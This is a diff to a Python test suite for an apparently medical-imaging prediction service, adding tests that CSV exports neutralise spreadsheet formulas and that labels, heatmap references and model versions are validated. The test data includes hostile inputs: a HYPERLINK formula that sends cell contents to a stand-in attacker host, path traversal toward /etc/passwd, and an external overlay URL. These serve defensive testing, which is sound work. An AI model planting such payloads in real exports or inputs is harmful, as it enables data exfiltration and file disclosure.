@@ -48,10 +48,8 @@ async def test_the_same_idempotency_key_gives_the_first_prediction_even_concurre
 async def test_prediction_bad_input(data):
     image = await data.image(3)
     assert (await data.prediction(str(uuid.uuid4()))).status_code == 404
-    bad_label = await data.client.post(
-        "/predictions",
-        headers=data.clinician,
-        json={
+    bad_label = await data.store_prediction(
+        {
             "image_id": image["id"],
             "model_version": "v1",
             "label": "cancer",
@@ -59,7 +57,7 @@ async def test_prediction_bad_input(data):
             "probabilities": {"benign": 0.1, "malignant": 0.9},
             "threshold": 0.5,
             "latency_ms": 1,
-        },
+        }
     )
     assert bad_label.status_code == 422
     assert (
@@ -313,6 +311,77 @@ async def test_the_export_names_one_file_in_its_label_folder_whatever_the_refere
     assert len({groups[r["path"]] for r in rows}) == len(rows)
 
 
+async def test_the_same_bytes_for_two_patients_count_for_each_in_history_stats_and_export(
+    data, data_db
+):
+    first, second = await data.patient("H-DUP-A"), await data.patient("H-DUP-B")
+    uploads = [await data.image(60, first["id"]), await data.image(60, second["id"])]
+    predictions = [(await data.prediction(u["id"], "malignant")).json() for u in uploads]
+    assert [p["patient_id"] for p in predictions] == [first["id"], second["id"]]
+    for prediction in predictions:
+        review = await data.client.post(
+            f"/predictions/{prediction['id']}/reviews",
+            json={"verdict": "agree"},
+            headers=data.clinician,
+        )
+        assert review.status_code == 201, review.text
+    for patient, prediction in zip((first, second), predictions, strict=True):
+        history = await data.client.get(
+            "/predictions", params={"patient_id": patient["id"]}, headers=data.clinician
+        )
+        assert [p["id"] for p in history.json()["items"]] == [prediction["id"]]
+    stats = (await data.client.get("/stats", headers=data.clinician)).json()
+    assert stats["predictions"] == 2 and stats["by_label"] == {"malignant": 2}
+    assert stats["reviews"]["reviewed_predictions"] == 2
+    export = await data.client.get("/exports/labels", headers=bearer(mint_token("admin")))
+    rows = list(csv.DictReader(io.StringIO(export.text)))
+    assert [r["patient"] for r in rows] == ["H-DUP-A", "H-DUP-B"]
+    assert [r["image_id"] for r in rows] == [u["id"] for u in uploads]
+    assert len({r["path"] for r in rows}) == 2 and len({r["image_sha256"] for r in rows}) == 1
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
+    "+1+1",
+    "@SUM(1)",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+async def test_no_exported_cell_can_start_a_spreadsheet_formula(data, data_db):
+    # Creating such a reference is refused (the reference pattern); older rows may hold one.
+    for reference in FORMULAS:
+        refused = await data.client.post(
+            "/patients", json={"external_ref": reference}, headers=data.clinician
+        )
+        assert refused.status_code == 422, (reference, refused.text)
+    for seed, reference in enumerate(FORMULAS, start=70):
+        rows = await fetch_async(
+            data_db,
+            "INSERT INTO patients (id, external_ref) VALUES (gen_random_uuid(), $1) RETURNING id",
+            reference,
+        )
+        image = await data.image(seed, str(rows[0]["id"]))
+        prediction = (await data.prediction(image["id"], "benign", version="-1")).json()
+        await data.client.post(
+            f"/predictions/{prediction['id']}/reviews",
+            json={"verdict": "agree"},
+            headers=data.clinician,
+        )
+    export = await data.client.get("/exports/labels", headers=bearer(mint_token("admin")))
+    assert export.status_code == 200
+    rows = list(csv.reader(io.StringIO(export.text, newline="")))[1:]
+    assert len(rows) == len(FORMULAS)
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
+    patient_column = [row[4] for row in rows]
+    assert patient_column == [f"'{reference}" for reference in FORMULAS]  # kept, made text
+    assert {row[8] for row in rows} == {"'-1"}
+
+
 async def test_every_write_produced_an_audit_event_and_the_trail_is_append_only(data, data_db):
     patient = await data.patient("H-A")
     await data.client.patch(
@@ -366,3 +435,56 @@ async def test_the_heatmap_focus_is_stored_with_the_prediction(data):
     for bad in ({**focus, "spread": "everywhere"}, {**focus, "hot_area_fraction": 2}):
         refused = await data.prediction(image["id"], heatmap_focus=bad)
         assert refused.status_code == 422, bad
+
+
+async def test_an_odd_label_or_a_heatmap_that_is_not_a_stored_image_is_refused_and_nothing_stored(
+    data, data_db
+):
+    patient, other_patient = await data.patient("H-HM1"), await data.patient("H-HM2")
+    image = await data.image(40, patient["id"])
+    other_patients_image = await data.image(41, other_patient["id"])
+    valid = {
+        "image_id": image["id"],
+        "model_version": "v1",
+        "label": "malignant",
+        "probability": 0.9,
+        "probabilities": {"benign": 0.1, "malignant": 0.9},
+        "threshold": 0.5,
+        "latency_ms": 1,
+    }
+    cases = [
+        ({"label": "cancer"}, 422, "validation_error"),
+        ({"label": "Malignant"}, 422, "validation_error"),
+        ({"label": '=HYPERLINK("http://x")'}, 422, "validation_error"),
+        ({"probabilities": {"benign": 0.1, "malignant": 0.9, "other": 0.0}}, 422, None),
+        ({"probabilities": {"benign": 0.1}}, 422, None),
+        ({"model_version": "../v1"}, 422, None),
+        ({"heatmap_ref": "heatmaps/../../etc/passwd"}, 422, "validation_error"),
+        ({"heatmap_ref": "https://evil.example/overlay.png"}, 422, "validation_error"),
+        ({"heatmap_ref": str(uuid.uuid4())}, 404, "heatmap_not_found"),
+        ({"heatmap_ref": other_patients_image["id"]}, 422, "heatmap_patient_mismatch"),
+    ]
+    for change, status, code in cases:
+        response = await data.store_prediction({**valid, **change})
+        assert response.status_code == status, (change, response.text)
+        if code:
+            assert response.json()["error"]["code"] == code, (change, response.text)
+    assert (await fetch_async(data_db, "SELECT count(*) AS n FROM predictions"))[0]["n"] == 0
+    # The overlay of the same patient is accepted, and read back as that image's id.
+    overlay = await data.image(42, patient["id"])
+    stored = await data.store_prediction({**valid, "heatmap_ref": overlay["id"]})
+    assert stored.status_code == 201, stored.text
+    assert stored.json()["heatmap_ref"] == overlay["id"]
+
+
+async def test_without_the_gateways_public_key_no_prediction_can_be_stored(data_db, tmp_path):
+    from tests.support.data import running_data
+
+    async with running_data(
+        data_db, tmp_path / "images", gateway_service_public_key=None
+    ) as unconfigured:
+        image = await unconfigured.image(43)
+        refused = await unconfigured.prediction(image["id"])
+        assert refused.status_code == 503, refused.text
+        assert refused.json()["error"]["code"] == "service_key_not_configured"
+    assert (await fetch_async(data_db, "SELECT count(*) AS n FROM predictions"))[0]["n"] == 0
